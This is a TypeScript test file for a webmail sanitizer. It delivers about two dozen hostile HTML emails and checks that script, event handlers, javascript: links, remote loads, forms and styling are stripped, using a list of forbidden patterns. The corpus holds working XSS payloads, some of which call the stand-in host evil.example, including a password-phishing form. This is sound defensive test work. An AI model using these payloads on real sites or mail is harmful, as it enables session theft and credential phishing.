// Hostile HTML mails through the whole reading path (delivery → parse → sanitize →
// page): nothing that can run script, navigate, submit, load remote content or
// restyle the page may survive.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClient } from '../../../../core/http/test-client.ts';
import { createMailTestAppliance, type MailKit, type MailKitUser } from '../../testing/mail-kit.ts';

const CORPUS: Record<string, string> = {
  'script tag': '<p>hi</p><script>alert(document.cookie)</script>',
  'script mixed case': '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  'img onerror': '<img src=x onerror="alert(1)">',
  'body onload': '<body onload="alert(1)"><p>text</p></body>',
  'javascript link': '<a href="javascript:alert(1)">click</a>',
  'javascript link with entities': '<a href="jav&#x09;ascript:alert(1)">click</a><a href="&#106;avascript:alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'svg onload': '<svg onload="alert(1)"><circle r="5"/></svg>',
  'svg script': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'mathml href': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'style expression': '<p style="width: expression(alert(1))">x</p><div style="background:url(javascript:alert(1))">y</div>',
  'style tag import': '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/t.gif) }</style><p>x</p>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'form phishing': '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example">Log in</button></form>',
  'iframe': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'base href': '<base href="https://evil.example/"><a href="/login">login</a>',
  'data url image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'data url link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'protocol-relative image': '<img src="//evil.example/track.gif">',
  'template': '<template><script>alert(1)</script></template>',
  'formaction on button': '<button formaction="javascript:alert(1)">x</button>',
  'class and id hijack': '<div class="btn btn-danger" id="mail-bulk">x</div>',
  'background attribute': '<table background="javascript:alert(1)"><tr><td background="https://evil.example/t.gif">x</td></tr></table>',
};

const FORBIDDEN = [
  /<script/i, /<\/?(?:svg|math|style|meta|base|form|input|button|iframe|object|embed|link|template|noscript|body|mglyph|maction)\b/i,
  /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /expression\s*\(/i, /data:/i, /srcdoc/i, /formaction/i, /evil\.example/i,
  /\sstyle\s*=/i, /\sclass\s*=/i, /\sid\s*=/i, /\sbackground\s*=/i, /http-equiv/i,
];

let k: MailKit;
let alice: MailKitUser;
let web: TestClient;
let inbox: string;

beforeAll(async () => {
  k = await createMailTestAppliance();
  alice = await k.addUser('alice@example.test');
  web = new TestClient(k.appliance.app, 'http://example.test');
  await web.login(alice.email, alice.password);
  await k.store.ensureAccount(alice.userId, k.meta());
  inbox = (await k.store.mailboxByName(alice.userId, 'INBOX'))!.id;
});
afterAll(() => k.close());

/** The sanitized message body out of the reading page. */
function bodyOf(page: string): string {
  const start = page.indexOf('<div class="mail-body html">');
  expect(start).toBeGreaterThan(0);
  const end = page.indexOf('</article>', start);
  return page.slice(start + '<div class="mail-body html">'.length, end);
}

describe('HTML mail sanitizing (XSS corpus)', () => {
  it('has at least 15 hostile mails', () => expect(Object.keys(CORPUS).length).toBeGreaterThanOrEqual(15));

  for (const [name, html] of Object.entries(CORPUS)) {
    it(`neutralizes: ${name}`, async () => {
      const raw = Buffer.from([
        'From: Mallory <mallory@evil.example>', 'To: alice@example.test', `Subject: xss ${name}`, 'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8', '', `<html><head></head><body>${html}<p>visible text</p></body></html>`, '',
      ].join('\r\n'));
      const { uid } = await k.store.deliver(alice.userId, raw, {}, k.meta());
      for (const q of ['', '?images=1']) {
        const page = await web.page(`/mail/m/${inbox}/${uid}${q}`);
        const body = bodyOf(page);
        expect(body).toContain('visible text');
        for (const re of FORBIDDEN) expect(body, `${name}${q}: ${re}`).not.toMatch(re);
        // The page keeps only its own scripts.
        expect([...page.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]).every((s) => /src="\/(?:static|mail\/static)\//.test(s))).toBe(true);
      }
    });
  }

  it('rewrites links to open in a new tab without opener or referrer', async () => {
    const raw = Buffer.from(['From: a@example.org', 'To: alice@example.test', 'Subject: links', 'Content-Type: text/html', '', '<a href="https://example.org/page" target="_self">go</a>', ''].join('\r\n'));
    const { uid } = await k.store.deliver(alice.userId, raw, {}, k.meta());
    const body = bodyOf(await web.page(`/mail/m/${inbox}/${uid}`));
    expect(body).toContain('<a href="https://example.org/page" target="_blank" rel="noopener noreferrer">go</a>');
  });
});
